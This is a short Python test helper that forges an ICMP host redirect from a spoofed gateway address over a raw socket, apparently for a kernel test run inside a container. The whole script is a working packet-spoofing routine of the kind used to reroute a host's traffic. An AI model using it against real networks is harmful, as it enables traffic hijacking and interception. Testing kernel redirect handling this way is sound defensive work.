# Sends an ICMP host redirect to ARGV[2] as if from its gateway ARGV[1]: "for ARGV[4], use
# ARGV[3] as the gateway" (a raw IPv4 socket with its own header, so the source is forged).
# RedirectKernelTest runs it in a container's namespace (as root).
import socket
import struct
import sys

gateway, victim, new_gateway, destination = sys.argv[1:5]


def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def ip_header(src, dst, proto, length):
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + length, 0, 0, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))


# the datagram the redirect is about: victim -> destination, an ICMP echo request, its first 8
# bytes (the kernel applies a redirect about an ICMP datagram without looking for a socket)
inner = ip_header(victim, destination, 1, 8) + struct.pack('!BBHHH', 8, 0, 0, 1, 1)
icmp = struct.pack('!BBH4s', 5, 1, 0, socket.inet_aton(new_gateway)) + inner
icmp = icmp[:2] + struct.pack('!H', checksum(icmp)) + icmp[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(3):
    s.sendto(ip_header(gateway, victim, 1, len(icmp)) + icmp, (victim, 0))
